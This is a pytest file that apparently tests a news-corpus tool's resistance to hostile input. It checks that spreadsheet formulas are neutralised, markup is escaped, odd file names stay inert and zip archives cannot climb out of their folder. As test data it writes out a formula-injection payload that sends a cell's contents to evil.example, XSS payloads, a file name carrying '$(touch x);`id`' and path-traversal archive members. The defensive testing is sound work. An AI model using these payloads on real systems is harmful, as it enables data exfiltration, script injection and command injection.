"""What a stranger could put into a corpus to harm who reads it: formulas, markup, file names, archives."""

import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from newsframing.cleaning import clean
from newsframing.cleaning.flow import removed_records
from newsframing.datasets import read_member
from newsframing.errors import UserError
from newsframing.focus import focus_sample
from newsframing.pages import html
from newsframing.readers import READERS, import_source
from newsframing.tables import FORMULA_OPENERS, read_csv, write_csv

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_a_formula_is_a_text_and_stays_one_in_every_table(tmp_path: Path) -> None:
    source = tmp_path / "a.csv"
    quoted = FORMULA.replace('"', '""')
    rows = [f'"{quoted}","{quoted} {n} militants",{FORMULA.split("(")[0]},"@SUM(1)"' for n in range(6)]
    rows += ['"+1+1","-2+3","@cmd","=1"'] * 2
    source.write_text("title,body,outlet,published\n" + "\n".join(rows) + "\n", encoding="utf-8")
    records, rejected, notes = import_source([(source, "a.csv")], "table", {})
    assert records["title"].iloc[0] == FORMULA, "the reader keeps what stands there"
    cleaned = clean(records)
    for number, table in enumerate(
        [
            removed_records(cleaned.excluded),
            cleaned.boilerplate,
            cleaned.dates,
            cleaned.unknown_outlets,
            focus_sample(cleaned.articles, {"any": ["militants"]}),
            rejected,
            notes,
        ]
    ):
        write_csv(table, tmp_path / f"{number}.csv")
        for column in (written := read_csv(tmp_path / f"{number}.csv", dtype=str)):
            cells = written[column].dropna()
            assert not cells.str.startswith(FORMULA_OPENERS).any(), column
    assert len(cleaned.unknown_outlets) == 2, "the formula stood in a table that a spreadsheet opens"


def test_markup_in_a_title_is_shown_as_text(tmp_path: Path) -> None:
    source = tmp_path / "a.csv"
    source.write_text('title,body\n"<script>alert(1)</script>News <b>x</b> <img src=x onerror=alert(1)>","A text."\n')
    article = clean(import_source([(source, "a.csv")], "table", {})[0]).articles.iloc[0]
    assert article["title"] == "News x"
    shown = html.table_html(pd.DataFrame({"title": ["<script>alert(1)</script>", "a & b < c"]}), caption="Titles")
    assert "<script>" not in str(shown)
    assert "&lt;script&gt;" in str(shown)


NAMES = [
    "-rf.txt",
    "--help.txt",
    "two\nlines.txt",
    "quo\"te's.txt",
    "<b>bold<|b>.txt".replace("|", "\u2215"),
    "..%2F..%2Fx.txt",
    "$(touch x);`id`.txt",
    "مرحبا🙂.txt",
    " .txt",
    "=1+1.txt",
    "a" * 200 + ".txt",
]


@pytest.mark.parametrize("name", NAMES)
def test_an_odd_file_name_is_a_name(name: str, tmp_path: Path) -> None:
    folder = tmp_path / "corpus"
    folder.mkdir()
    path = folder / name
    path.write_text("Title\n\nA text of a few words.", encoding="utf-8")
    before = sorted(entry.name for entry in tmp_path.rglob("*"))
    records, rejected, notes = import_source([(path, f"corpus/{name}")], "text", {})
    assert rejected.empty
    assert records["source_file"].tolist() == [f"corpus/{name}"]
    assert sorted(entry.name for entry in tmp_path.rglob("*")) == before
    write_csv(notes, tmp_path / "notes.csv")
    assert len(read_csv(tmp_path / "notes.csv")) == len(notes)
    path.write_bytes(b"\0" * 400)
    with pytest.raises(UserError) as refused:
        import_source([(path, f"corpus/{name}")], "text", {})
    assert "\n" not in str(refused.value)


def test_a_name_that_climbs_names_nothing_else(tmp_path: Path) -> None:
    """A name is only printed: what is read is the path, and a path without a file is one sentence."""
    outside = tmp_path / "x.txt"
    outside.write_text("Secret words of another folder.")
    inside = tmp_path / "a" / "b"
    inside.mkdir(parents=True)
    (inside / "y.txt").write_text("Words of this folder.")
    records, _, _ = import_source([(inside / "y.txt", "../../x.txt")], "text", {})
    assert records["body"].tolist() == ["Words of this folder."]
    with pytest.raises(UserError, match="cannot be opened"):
        import_source([(inside / "../../z.txt", "../../z.txt")], "text", {})


@pytest.mark.parametrize("member", ["../../out.csv", "/etc/out.csv", "a/../../out.csv"])
def test_an_archive_that_climbs_out_leaves_nothing(member: str, tmp_path: Path) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(member, "title,body\na,b\n")
    with pytest.raises(UserError, match="climbs out"):
        read_member(packed.getvalue(), member, "corpus")
    for name in ("a.csv", "a.txt", "a.json"):
        path = tmp_path / name
        path.write_bytes(packed.getvalue())
        fmt = {"a.csv": "table", "a.txt": "text", "a.json": "newsapi"}[name]
        assert fmt in READERS
        with pytest.raises(UserError, match="zip archive"):
            import_source([(path, name)], fmt, {})
    assert sorted(entry.name for entry in tmp_path.iterdir()) == ["a.csv", "a.json", "a.txt"]
    assert not (tmp_path.parent / "out.csv").exists()
